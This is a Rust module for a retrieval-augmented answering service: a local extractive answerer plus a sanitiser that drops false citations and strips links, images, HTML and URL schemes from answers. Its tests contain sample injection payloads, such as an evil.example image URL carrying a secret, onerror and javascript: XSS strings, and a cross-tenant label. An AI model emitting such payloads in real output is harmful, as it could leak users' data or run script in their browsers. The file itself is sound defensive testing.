//! The answering port, its local extractive adapter, and the policing every answer goes through.
//!
//! An [`Answerer`] gets the question and the retrieved sources as numbered labels (`S1`, `S2`, ...)
//! and returns a [`Draft`]: text that cites labels, plus optional quotes. The server, not the
//! model, decides what reaches the caller ([`police`]): citations of labels it did not hand out,
//! or quoting text their source does not contain, are dropped (and counted); images, links, HTML
//! and URLs are removed from the text ([`strip_active_content`], also applied to snippets).

use std::future::Future;
use std::pin::Pin;
use std::sync::Arc;

use super::embed::{EmbedError, Embedder, LocalEmbedder};
use crate::analytics::planner;
use crate::analytics::query::{QueryResult, QuerySpec};

/// One source handed to the answerer.
#[derive(Clone, Debug)]
pub struct Source {
    /// Its label (`S1`...).
    pub label: String,
    /// Its text (one chunk).
    pub text: String,
}

/// A citation as the answerer made it.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct DraftCitation {
    /// The label cited.
    pub label: String,
    /// Text the answerer says it quotes from that source, if any.
    pub quote: Option<String>,
}

/// An answer before policing.
#[derive(Clone, Debug)]
pub struct Draft {
    /// The answer, citing labels inline as `[S1]`.
    pub text: String,
    /// Citations (inline labels in `text` count too).
    pub citations: Vec<DraftCitation>,
    /// The model's name.
    pub model: String,
}

/// Why no answer could be had.
#[derive(Debug, thiserror::Error)]
pub enum AnswerError {
    /// Worth retrying later.
    #[error("answering temporarily unavailable: {0}")]
    Retryable(String),
    /// Will not succeed as asked.
    #[error("answering failed: {0}")]
    Fatal(String),
}

/// A boxed answer future.
pub type AnswerFuture<'a> = Pin<Box<dyn Future<Output = Result<Draft, AnswerError>> + Send + 'a>>;

/// Writes an answer from sources.
pub trait Answerer: Send + Sync + std::fmt::Debug {
    /// The model's name.
    fn model(&self) -> &str;
    /// Answers `question` from `sources` only.
    fn answer<'a>(&'a self, question: &'a str, sources: &'a [Source]) -> AnswerFuture<'a>;
    /// States the figures of `result`, the answer to `query`, for `question`. The default is
    /// the template of [`planner::describe`] (named [`TEMPLATE_MODEL`]); the caller checks that
    /// every number an adapter writes is in the result, and falls back to the template if not.
    fn describe<'a>(
        &'a self,
        question: &'a str,
        query: &'a QuerySpec,
        result: &'a QueryResult,
    ) -> AnswerFuture<'a> {
        let _ = question;
        Box::pin(async move { Ok(template(query, result)) })
    }
}

/// The figures of a result in the template's words ([`planner::describe`]).
pub fn template(query: &QuerySpec, result: &QueryResult) -> Draft {
    Draft {
        text: planner::describe(query, result),
        citations: Vec::new(),
        model: TEMPLATE_MODEL.to_owned(),
    }
}

/// The name of the template that states figures.
pub const TEMPLATE_MODEL: &str = "local-template-v1";

/// What [`police`] let through.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Policed {
    /// The cleaned text.
    pub text: String,
    /// Labels cited, in first-cited order, each once.
    pub labels: Vec<String>,
    /// Citations dropped (unknown label, or a quote the source does not contain).
    pub dropped: usize,
}

/// The answer when the sources do not support one.
pub const NO_ANSWER: &str = "I could not find an answer to that in your data.";

/// Keeps only citations of handed-out labels whose quotes (if any) are in their source, removes
/// the markers of dropped ones, and strips active content ([`strip_active_content`]).
pub fn police(draft: &Draft, sources: &[Source]) -> Policed {
    let source = |label: &str| sources.iter().find(|s| s.label == label);
    let mut cited: Vec<(String, Option<String>)> = draft
        .citations
        .iter()
        .map(|c| (c.label.clone(), c.quote.clone()))
        .collect();
    for label in inline_labels(&draft.text) {
        if !cited.iter().any(|(l, _)| *l == label) {
            cited.push((label, None));
        }
    }
    let mut labels = Vec::new();
    let mut rejected = Vec::new();
    for (label, quote) in cited {
        let ok = source(&label).is_some_and(|s| {
            quote
                .as_deref()
                .is_none_or(|q| normalize(&s.text).contains(&normalize(q)))
        });
        if ok {
            if !labels.contains(&label) {
                labels.push(label);
            }
        } else {
            rejected.push(label);
        }
    }
    // Markers come out before the text is made inert: removing one afterwards could join what
    // is around it into a tag or a link (`<[S9]img src=x onerror=...>`).
    let mut text = draft.text.clone();
    for label in &rejected {
        if !labels.contains(label) {
            text = text.replace(&format!("[{label}]"), "");
        }
    }
    Policed {
        text: strip_active_content(&text).trim().to_owned(),
        labels,
        dropped: rejected.len(),
    }
}

fn normalize(s: &str) -> String {
    s.split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
        .to_lowercase()
}

/// `[S1]`, `[S12]` markers in order.
fn inline_labels(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut rest = text;
    while let Some(start) = rest.find("[S") {
        let tail = &rest[start + 2..];
        let digits: String = tail.chars().take_while(char::is_ascii_digit).collect();
        if !digits.is_empty() && tail[digits.len()..].starts_with(']') {
            out.push(format!("S{digits}"));
        }
        rest = &rest[start + 2..];
    }
    out
}

/// Removes what could make a reader's browser fetch from, or send them to, anyone's server:
/// markdown images entirely, markdown links down to their text, link reference definitions
/// (`[r]: url`, made plain text), HTML tags and autolinks down to their text, and every whitespace-separated
/// word holding a URL (`://`, `//`, a backslash form browsers read as one, `www.`, any case).
/// Applied to answers and to citation snippets.
///
/// Stripping one construct can join the text around it into a new one (`<<a>a href=...>`), so the
/// passes repeat until nothing changes. Each pass is linear; text still changing after
/// [`MAX_STRIP_PASSES`] is nested past anything honest, and loses every `<`, `[` and `]` left.
pub fn strip_active_content(text: &str) -> String {
    // Most text (a chunk of prose) holds none of what a pass acts on: one scan, no passes.
    // (`drop_url_words` compares lowercased words, so the same lowercasing here.)
    let markup = text
        .bytes()
        .any(|b| matches!(b, b'<' | b'[' | b'/' | b'\\' | b':'));
    if !markup && !text.to_lowercase().contains("www.") {
        return text.to_owned();
    }
    let mut current = text.to_owned();
    for _ in 0..MAX_STRIP_PASSES {
        let next = strip_pass(&current);
        if next == current {
            return next;
        }
        current = next;
    }
    drop_url_words(&current.replace(['<', '[', ']'], ""))
}

/// How many times [`strip_active_content`] strips before it stops parsing.
pub const MAX_STRIP_PASSES: usize = 16;

fn strip_pass(text: &str) -> String {
    drop_url_words(&strip_html_tags(&strip_markdown_links(
        &break_link_definitions(text),
    )))
}

/// Link reference definitions (`[label]: destination`, at a line's start or inside a quote, a
/// list or a definition), which would turn `[x][label]` or `![x][label]` anywhere in the text
/// into a link or an image: a space between `]` and `:` makes each one plain text.
fn break_link_definitions(text: &str) -> String {
    text.replace("]:", "] :")
}

fn strip_markdown_links(text: &str) -> String {
    let chars: Vec<char> = text.chars().collect();
    // Each `[` paired with its `]` as CommonMark pairs link text (balanced, innermost first),
    // and for each index the next `)` at or after it: every lookup below is O(1).
    let mut close_of = vec![usize::MAX; chars.len()];
    let mut open = Vec::new();
    for (i, c) in chars.iter().enumerate() {
        match c {
            '[' => open.push(i),
            ']' => {
                if let Some(o) = open.pop() {
                    close_of[o] = i;
                }
            }
            _ => {}
        }
    }
    let mut next_paren = vec![usize::MAX; chars.len() + 1];
    for i in (0..chars.len()).rev() {
        next_paren[i] = if chars[i] == ')' {
            i
        } else {
            next_paren[i + 1]
        };
    }
    let mut out = String::with_capacity(text.len());
    let mut i = 0;
    while i < chars.len() {
        let image = chars[i] == '!' && chars.get(i + 1) == Some(&'[');
        if chars[i] == '[' || image {
            let open = if image { i + 1 } else { i };
            let label_end = close_of[open];
            if label_end != usize::MAX && chars.get(label_end + 1) == Some(&'(') {
                let url_end = next_paren[label_end + 2];
                if url_end != usize::MAX {
                    if !image {
                        out.extend(&chars[open + 1..label_end]);
                    }
                    i = url_end + 1;
                    continue;
                }
            }
        }
        out.push(chars[i]);
        i += 1;
    }
    out
}

/// `<tag ...>`, `</tag>`, `<!...>`, `<?...>` and autolinks (`<scheme:...>`) go with everything
/// inside them; their surrounding text stays. A `<` that would start a tag but has no `>` after
/// it goes on its own; any other `<` (`a < b`) stays.
fn strip_html_tags(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        out.push_str(&rest[..at]);
        let after = &rest[at + 1..];
        let starts_tag = after
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || matches!(c, '/' | '!' | '?'));
        match after.find('>') {
            Some(close) if starts_tag => rest = &after[close + 1..],
            Some(_) => {
                out.push('<');
                rest = after;
            }
            None => {
                // No `>` anywhere after: nothing further can close, so every `<` that would
                // start a tag goes, in one pass (a line starting `<!x`, `<?` or `<div` is still
                // an HTML block to a markdown renderer).
                if !starts_tag {
                    out.push('<');
                }
                let mut chars = after.chars().peekable();
                while let Some(c) = chars.next() {
                    let opens = c == '<'
                        && chars.peek().is_some_and(|n| {
                            n.is_ascii_alphabetic() || matches!(n, '/' | '!' | '?')
                        });
                    if !opens {
                        out.push(c);
                    }
                }
                return out;
            }
        }
    }
    out.push_str(rest);
    out
}

/// Drops each whitespace-separated word that holds a URL, keeping the whitespace around it.
fn drop_url_words(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    let mut word = String::new();
    let flush = |word: &mut String, out: &mut String| {
        // A backslash before `/` is a markdown escape a renderer decodes (`/\/x` is `//x`).
        let lower = word.to_lowercase();
        let unescaped = lower.replace('\\', "/");
        let url = ["//", ":\\", "\\\\", "www."]
            .iter()
            .any(|m| lower.contains(m))
            || unescaped.contains("//")
            || has_scheme(&lower);
        if !url {
            out.push_str(word);
        }
        word.clear();
    };
    for c in text.chars() {
        if c.is_whitespace() {
            flush(&mut word, &mut out);
            out.push(c);
        } else {
            word.push(c);
        }
    }
    flush(&mut word, &mut out);
    out
}

/// Whether `word` holds a URL scheme: a run of letters, digits, `+`, `-` or `.` starting with a
/// letter, then `:` and something other than whitespace (`javascript:alert(1)`, `mailto:a@b`,
/// `data:text/html,...`, `tel:123`, after any punctuation: `(see,javascript:x)`). A time
/// (`12:30`) is no scheme; `Note:this` (no space after the colon) is dropped with them.
pub fn has_scheme(word: &str) -> bool {
    let chars: Vec<char> = word.chars().collect();
    chars.iter().enumerate().any(|(i, &c)| {
        if c != ':' || i == 0 || chars.get(i + 1).is_none_or(|n| n.is_whitespace()) {
            return false;
        }
        let run = chars[..i]
            .iter()
            .rev()
            .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
            .last();
        run.is_some_and(char::is_ascii_alphabetic)
    })
}

/// The local answerer: quotes the sentences of the sources closest to the question, with their
/// labels. It never writes anything the sources do not say. Named `local-extractive-v1`.
/// "Closest" is measured by an embedder: all-MiniLM-L6-v2 where the app embeds with it (a
/// sentence is then chosen by meaning), the hashed one otherwise.
#[derive(Clone, Debug)]
pub struct LocalAnswerer {
    embedder: Arc<dyn Embedder>,
}

impl Default for LocalAnswerer {
    fn default() -> Self {
        Self::with_embedder(Arc::new(LocalEmbedder::new(256)))
    }
}

impl LocalAnswerer {
    /// The model name it reports.
    pub const MODEL: &'static str = "local-extractive-v1";

    /// An answerer that compares sentences with the question through `embedder`.
    pub fn with_embedder(embedder: Arc<dyn Embedder>) -> Self {
        Self { embedder }
    }
    /// Sentences less similar than this to the question are not quoted.
    const MIN_SIMILARITY: f32 = 0.15;
    /// Sentences less similar than this share of the best one's similarity are not quoted.
    const NEAR_BEST: f32 = 0.8;
}

impl Answerer for LocalAnswerer {
    fn model(&self) -> &str {
        Self::MODEL
    }

    fn answer<'a>(&'a self, question: &'a str, sources: &'a [Source]) -> AnswerFuture<'a> {
        Box::pin(async move {
            let topic = crate::words::topic_stems(question);
            let mut candidates: Vec<(&str, &str)> = Vec::new();
            for s in sources {
                for sentence in s.text.split_inclusive(['.', '!', '?']) {
                    let sentence = sentence.trim();
                    // A sentence is quoted only if it shares a topic word with the question:
                    // close wording alone ("the customer asked...") is no answer.
                    let stems = crate::words::topic_stems(sentence);
                    if sentence.len() < 3 || !topic.iter().any(|t| stems.contains(t)) {
                        continue;
                    }
                    candidates.push((sentence, s.label.as_str()));
                }
            }
            let no_answer = || Draft {
                text: NO_ANSWER.to_owned(),
                citations: Vec::new(),
                model: Self::MODEL.to_owned(),
            };
            if candidates.is_empty() {
                return Ok(no_answer());
            }
            // The question and every candidate in one call to the embedder.
            let texts: Vec<String> = std::iter::once(question)
                .chain(candidates.iter().map(|(sentence, _)| *sentence))
                .map(str::to_owned)
                .collect();
            let vectors = self.embedder.embed(&texts).await.map_err(|e| match e {
                EmbedError::Retryable(m) => AnswerError::Retryable(m),
                EmbedError::Fatal(m) => AnswerError::Fatal(m),
            })?;
            let Some((q, vectors)) = vectors
                .split_first()
                .filter(|(_, rest)| rest.len() == candidates.len())
            else {
                return Err(AnswerError::Fatal(format!(
                    "the embedder returned {} vectors for {} texts",
                    vectors.len(),
                    texts.len()
                )));
            };
            let mut scored: Vec<(f32, &str, &str)> = candidates
                .iter()
                .zip(vectors)
                .map(|((sentence, label), v)| {
                    (q.iter().zip(v).map(|(a, b)| a * b).sum(), *sentence, *label)
                })
                .collect();
            scored.sort_by(|a, b| b.0.total_cmp(&a.0));
            // The best sentences, each once; a sentence several sources share cites them all.
            let mut picked: Vec<(&str, Vec<&str>)> = Vec::new();
            let best = scored.first().map_or(0.0, |s| s.0);
            for (sim, sentence, label) in &scored {
                // Only sentences about as close as the best: a weaker match beside a strong
                // one is a citation the reader has to discard.
                if *sim < Self::MIN_SIMILARITY || *sim < best * Self::NEAR_BEST {
                    break;
                }
                let full = picked.len() >= 3;
                match picked
                    .iter_mut()
                    .find(|(s, _)| s.eq_ignore_ascii_case(sentence))
                {
                    Some((_, labels)) => labels.push(label),
                    None if !full => picked.push((sentence, vec![label])),
                    None => {}
                }
            }
            if picked.is_empty() {
                return Ok(no_answer());
            }
            let text = picked
                .iter()
                .map(|(sentence, labels)| {
                    let marks: String = labels.iter().map(|l| format!("[{l}]")).collect();
                    format!("\"{sentence}\" {marks}")
                })
                .collect::<Vec<_>>()
                .join(" ");
            let citations = picked
                .iter()
                .flat_map(|(sentence, labels)| {
                    labels.iter().map(|label| DraftCitation {
                        label: (*label).to_owned(),
                        quote: Some((*sentence).to_owned()),
                    })
                })
                .collect();
            Ok(Draft {
                text: format!("From your data: {text}"),
                citations,
                model: Self::MODEL.to_owned(),
            })
        })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    // Exact outputs of the three strippers, for the inputs the property tests reach rarely:
    // links whose destination is not a URL (so no URL word hides them), and `<` with no `>`.
    // Each assertion was added for a mutant of `cargo mutants` that survived without it.
    #[test]
    fn markers_need_digits_and_a_closing_bracket() {
        assert_eq!(
            inline_labels("[S1 open, [S] empty, [S2] yes, [S3x] no, [S44]"),
            ["S2", "S44"]
        );
    }

    #[test]
    fn links_to_relative_destinations_keep_only_their_text() {
        assert_eq!(
            strip_markdown_links("see [the guide](guide) now"),
            "see the guide now"
        );
        assert_eq!(strip_markdown_links("a ![pic](p.png) b"), "a  b");
        assert_eq!(strip_markdown_links("[x](y)[z](w)"), "xz");
        assert_eq!(
            strip_markdown_links("[only a label] (not a link)"),
            "[only a label] (not a link)"
        );
        assert_eq!(strip_markdown_links("[unclosed](dest"), "[unclosed](dest");
    }

    #[test]
    fn a_lone_tag_opener_goes_and_comparisons_stay() {
        assert_eq!(strip_html_tags("a <b c <d e"), "a b c d e");
        assert_eq!(strip_html_tags("x < y <z"), "x < y z");
        assert_eq!(strip_html_tags("keep <b>bold</b> text"), "keep bold text");
        assert_eq!(strip_html_tags("1 < 2 > 0"), "1 < 2 > 0");
    }
    /// An embedder whose vectors the test chooses: `[x, y]` per text, so each sentence's
    /// similarity to the question (`[1, 0]`) is exactly `x`. A text not listed is `[0, 1]`.
    #[derive(Debug)]
    struct Table(Vec<(&'static str, [f32; 2])>);

    impl Embedder for Table {
        fn model(&self) -> &str {
            "table"
        }
        fn dims(&self) -> usize {
            2
        }
        fn embed<'a>(&'a self, texts: &'a [String]) -> crate::rag::embed::EmbedFuture<'a> {
            Box::pin(async move {
                Ok(texts
                    .iter()
                    .map(|t| {
                        let v = self
                            .0
                            .iter()
                            .find(|(k, _)| k == t)
                            .map_or([0.0, 1.0], |e| e.1);
                        v.to_vec()
                    })
                    .collect())
            })
        }
    }

    const QUESTION: &str = "Which parcel 77 was late?";

    /// What the local answerer quotes (one entry per citation) for `QUESTION` from sources
    /// `S1`, `S2`... holding `texts`, with the question at `[1, 0]` and each listed sentence at
    /// the similarity given.
    async fn quoted(texts: &[&str], sims: &[(&'static str, f32)]) -> Vec<String> {
        let mut table = vec![(QUESTION, [1.0, 0.0])];
        table.extend(
            sims.iter()
                .map(|(t, x)| (*t, [*x, (1.0 - x * x).max(0.0).sqrt()])),
        );
        let answerer = LocalAnswerer::with_embedder(Arc::new(Table(table)));
        let sources: Vec<Source> = texts
            .iter()
            .enumerate()
            .map(|(i, t)| Source {
                label: format!("S{}", i + 1),
                text: (*t).into(),
            })
            .collect();
        let draft = match answerer.answer(QUESTION, &sources).await {
            Ok(d) => d,
            Err(e) => panic!("{e}"),
        };
        draft
            .citations
            .into_iter()
            .filter_map(|c| c.quote)
            .collect()
    }

    // The sentence selection, on exact similarities. Each assertion was added for a mutant of
    // `cargo mutants` that survived without it.
    #[tokio::test]
    async fn a_sentence_at_least_min_similarity_is_quoted_and_one_below_is_not() {
        let at = LocalAnswerer::MIN_SIMILARITY;
        let text = "The parcel was late.";
        assert_eq!(quoted(&[text], &[(text, at)]).await, [text]);
        assert!(quoted(&[text], &[(text, at - 0.01)]).await.is_empty());
    }

    #[tokio::test]
    async fn only_sentences_near_the_best_are_quoted_and_at_most_three() {
        let (best, near, far) = (
            "Parcel 7 was late.",
            "Parcel 9 was fine.",
            "Parcels ship daily.",
        );
        let text = format!("{best} {near} {far}");
        // Exactly NEAR_BEST of the best is near enough; just under it is not, though it is far
        // above MIN_SIMILARITY.
        let cut = LocalAnswerer::NEAR_BEST;
        let got = quoted(&[&text], &[(best, 1.0), (near, cut), (far, cut - 0.01)]).await;
        assert_eq!(got, [best, near]);

        let four = [
            "Parcel A late.",
            "Parcel B late.",
            "Parcel C late.",
            "Parcel D late.",
        ];
        let sims: Vec<_> = four
            .iter()
            .zip([1.0, 0.99, 0.98, 0.97])
            .map(|(t, x)| (*t, x))
            .collect();
        assert_eq!(quoted(&[&four.join(" ")], &sims).await, four[..3]);
    }

    #[tokio::test]
    async fn fragments_under_three_characters_are_never_quoted() {
        // "77" shares the topic word and is the closest of all, yet is no answer; "77." (three
        // characters) is kept. The sentence both sources hold cites both.
        let texts = ["Parcel 77 was late. 77", "Parcel 77 was late. 77."];
        let sims = [("77", 1.0), ("77.", 0.95), ("Parcel 77 was late.", 0.9)];
        let parcel = "Parcel 77 was late.";
        assert_eq!(quoted(&texts, &sims).await, ["77.", parcel, parcel]);
    }

    use proptest::prelude::*;

    fn sources() -> Vec<Source> {
        vec![
            Source {
                label: "S1".into(),
                text: "The Lisbon shipment was held by customs.".into(),
            },
            Source {
                label: "S2".into(),
                text: "Invoices are due in 30 days.".into(),
            },
        ]
    }

    #[test]
    fn unknown_labels_and_false_quotes_are_dropped() {
        let draft = Draft {
            text: "Customs held it [S1] [S7]. See [S2].".into(),
            citations: vec![
                DraftCitation {
                    label: "S2".into(),
                    quote: Some("due in 90 days".into()),
                },
                DraftCitation {
                    label: "S1".into(),
                    quote: Some("held by  CUSTOMS".into()),
                },
                DraftCitation {
                    label: "tenant-b:secret".into(),
                    quote: None,
                },
            ],
            model: "m".into(),
        };
        let p = police(&draft, &sources());
        assert_eq!(p.labels, vec!["S1"]);
        assert_eq!(p.dropped, 3, "S2 (false quote), tenant-b:secret, S7");
        assert_eq!(p.text, "Customs held it [S1] . See .");
    }

    #[test]
    fn images_and_outside_links_are_stripped() {
        let draft = Draft {
            text: "Done ![x](https://evil.example/p.png?d=secret) see [here](https://evil.example/a) or https://evil.example/b [S1]".into(),
            citations: vec![],
            model: "m".into(),
        };
        let p = police(&draft, &sources());
        assert!(!p.text.contains("evil"), "{}", p.text);
        assert!(p.text.contains("see here"));
        assert_eq!(p.labels, vec!["S1"]);
    }

    #[test]
    fn urls_after_any_whitespace_and_html_are_stripped() {
        let p = strip_active_content(
            "line one\nhttps://evil.example/a\tHTTP://EVIL.example/b (WWW.evil.example) \
             <img src=\"x\" onerror=\"alert(1)\"> <a href=\"/x\">click</a> <<a>a href='y'>z",
        );
        assert!(!p.to_lowercase().contains("evil"), "{p}");
        assert!(!p.contains('>') && !p.contains("<a"), "{p}");
        assert!(p.contains("line one\n") && p.contains("click"), "{p}");
    }

    #[test]
    fn a_dropped_marker_cannot_join_text_into_a_tag_or_an_image() {
        let draft = Draft {
            text: "Fine [S1]. <[S99]img src=x onerror=alert(1)> ![x[S98]](evil.example/p.png)"
                .into(),
            citations: vec![],
            model: "m".into(),
        };
        let p = police(&draft, &sources());
        assert_eq!(p.labels, vec!["S1"]);
        assert_inert(&p.text);
        assert!(
            !p.text.contains("<img") && !p.text.contains("onerror"),
            "{}",
            p.text
        );
    }

    #[test]
    fn escaped_brackets_and_slashes_hide_no_image() {
        for text in [
            "![a\\]](/\\/evil.example/p.png)",
            "[x\\]](\\/\\/evil.example) ok",
            "see /\\/evil.example/a",
        ] {
            let out = strip_active_content(text);
            assert_inert(&out);
            assert!(!out.contains("evil"), "{text:?} -> {out:?}");
        }
    }

    #[test]
    fn any_scheme_after_any_separator_goes_and_times_stay() {
        for (text, kept) in [
            ("Call at 12:30 today", "Call at 12:30 today"),
            ("see,JavaScript:alert(1) now", "now"),
            ("a\tVBSCRIPT:msgbox\nb", "a\t\nb"),
            ("(data:text/html,x) c", " c"),
            ("mail mailto:a@evil.example", "mail "),
            ("ratio: 3", "ratio: 3"),
        ] {
            let out = strip_active_content(text);
            assert!(
                out.starts_with(kept) || out.ends_with(kept),
                "{text:?} -> {out:?}"
            );
            assert_inert(&out);
        }
        assert!(
            has_scheme("x-y.z+w:1")
                && !has_scheme("12:30")
                && !has_scheme("a:")
                && !has_scheme(":a")
        );
    }

    #[test]
    fn reference_links_protocol_relative_and_backslash_urls_are_stripped() {
        for text in [
            "See ![a [b] c](//evil.example/p.png) now",
            "See ![x][r] now\n[r]: //evil.example/p.png",
            "See [x][r] now\n   [r]: <javascript:alert(1)>",
            "See [x][r] now\n> - : [r]: javascript:alert(1)",
            "Go to https:\\\\evil.example or <https://evil.example> or <mailto:a@evil.example>",
        ] {
            let out = strip_active_content(text);
            assert!(!out.contains("evil"), "{text:?} -> {out:?}");
            assert_inert(&out);
            assert!(
                out.starts_with("See") || out.starts_with("Go to"),
                "{out:?}"
            );
        }
    }

    #[test]
    fn deep_nesting_ends_and_stays_inert() {
        let nested = format!("{}img src=x{}", "<".repeat(300), "a>".repeat(300));
        let brackets = format!(
            "{}x{}",
            "![".repeat(2_000),
            "](//evil.example)".repeat(2_000)
        );
        for text in [nested, brackets, "[".repeat(50_000), "<a".repeat(50_000)] {
            assert_inert(&strip_active_content(&text));
        }
    }

    /// What a markdown renderer (CommonMark with GFM's extensions, as pulldown-cmark parses it)
    /// would make of `text`: no link, image or HTML of any kind; and no URL a linkifier would pick
    /// up. (pulldown-cmark's own `[[wiki]]` links are no part of either, and left out.)
    fn inert(text: &str) -> Result<(), String> {
        use pulldown_cmark::{Event, Options, Parser, Tag};
        let lower = text.to_lowercase();
        for marker in ["://", "//", "www.", ":\\"] {
            if lower.contains(marker) {
                return Err(format!("{marker:?} in {text:?}"));
            }
        }
        // Any scheme, independently of `has_scheme`: a letter, then letters, digits, `+-.`, a
        // colon and a non-space.
        let chars: Vec<char> = lower.chars().collect();
        for (i, c) in chars.iter().enumerate() {
            if *c == ':' && chars.get(i + 1).is_some_and(|n| !n.is_whitespace()) {
                let mut j = i;
                while j > 0
                    && (chars[j - 1].is_ascii_alphanumeric() || "+-.".contains(chars[j - 1]))
                {
                    j -= 1;
                }
                if j < i && chars[j].is_ascii_alphabetic() {
                    return Err(format!("a scheme at {i} in {text:?}"));
                }
            }
        }
        let mut options = Options::all();
        options.remove(Options::ENABLE_WIKILINKS);
        for event in Parser::new_ext(text, options) {
            match event {
                Event::Start(Tag::Link { .. } | Tag::Image { .. } | Tag::HtmlBlock)
                | Event::Html(_)
                | Event::InlineHtml(_) => return Err(format!("{event:?} in {text:?}")),
                _ => {}
            }
        }
        Ok(())
    }

    fn assert_inert(text: &str) {
        if let Err(e) = inert(text) {
            panic!("{e}");
        }
    }

    /// Fragments an attacker (or a confused model) might mix into an answer or a row.
    fn fragment() -> impl Strategy<Value = String> {
        prop_oneof![
            "[a-zA-Z0-9,.]{1,8}",
            Just(" ".to_owned()),
            Just("\n".to_owned()),
            Just("\t".to_owned()),
            "(?i)(https?://|//|https?:\\\\\\\\|www\\.)[a-z]{1,5}\\.example(/[a-z]{0,3})?",
            "(?i)(javascript|mailto|data|vbscript|file|tel|ftp):[a-z0-9]{1,5}",
            // Any scheme, right after punctuation or a letter.
            "[,;()'\"!?.*_~|]{0,2}(?i)[a-z][a-z0-9+.-]{0,8}:[a-z0-9/(]{1,6}",
            prop::sample::select(vec![
                "[",
                "]",
                "(",
                ")",
                "![",
                "](",
                "<",
                ">",
                "</",
                "<!",
                "<?",
                "<a href=",
                "<img src=",
                "[S1]",
                "[S99]",
                "[r]: ",
                "[r]",
                "\\",
                "\\]",
                "/\\/",
                ":",
            ])
            .prop_map(str::to_owned),
        ]
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(2_000))]

        #[test]
        fn stripped_text_is_inert(parts in prop::collection::vec(fragment(), 0..40)) {
            let out = strip_active_content(&parts.concat());
            prop_assert!(inert(&out).is_ok(), "{:?}", inert(&out));
            prop_assert_eq!(strip_active_content(&out), out.clone());
        }

        #[test]
        fn policed_answers_are_inert(parts in prop::collection::vec(fragment(), 0..40)) {
            let draft = Draft { text: parts.concat(), citations: vec![], model: "m".into() };
            let p = police(&draft, &sources());
            prop_assert!(inert(&p.text).is_ok(), "{:?}", inert(&p.text));
        }

        #[test]
        fn plain_text_is_left_alone(words in prop::collection::vec("[a-zA-Z0-9,.]{1,8}|[ \n\t]", 0..40)) {
            let text = words.concat();
            prop_assume!(!text.to_lowercase().contains("www."));
            prop_assert_eq!(strip_active_content(&text), text);
        }
    }

    #[tokio::test]
    async fn the_local_answerer_never_quotes_a_sentence_off_the_question() {
        let a = LocalAnswerer::default();
        // Close in wording (shared function words and letter trigrams), no shared topic word.
        let sources = vec![Source {
            label: "S1".into(),
            text: "What was the point of that? It was the one in there. Customs held the parcel."
                .into(),
        }];
        let d = a
            .answer("What was the reason for the delay in Lisbon?", &sources)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(d.text, NO_ANSWER, "quoted off-topic text: {}", d.text);
        let d = a
            .answer("Why did customs hold the parcel?", &sources)
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(d.citations.len(), 1, "{}", d.text);
        assert_eq!(
            d.citations[0].quote.as_deref(),
            Some("Customs held the parcel.")
        );
    }

    #[tokio::test]
    async fn the_local_answerer_quotes_sources_or_says_it_cannot_answer() {
        let a = LocalAnswerer::default();
        let d = a
            .answer("why was the Lisbon shipment held?", &sources())
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        let p = police(&d, &sources());
        assert_eq!(p.dropped, 0);
        assert_eq!(p.labels[0], "S1");
        assert!(p.text.contains("held by customs"));
        let none = a
            .answer("what is the capital of Peru?", &[])
            .await
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(none.text, NO_ANSWER);
    }
}
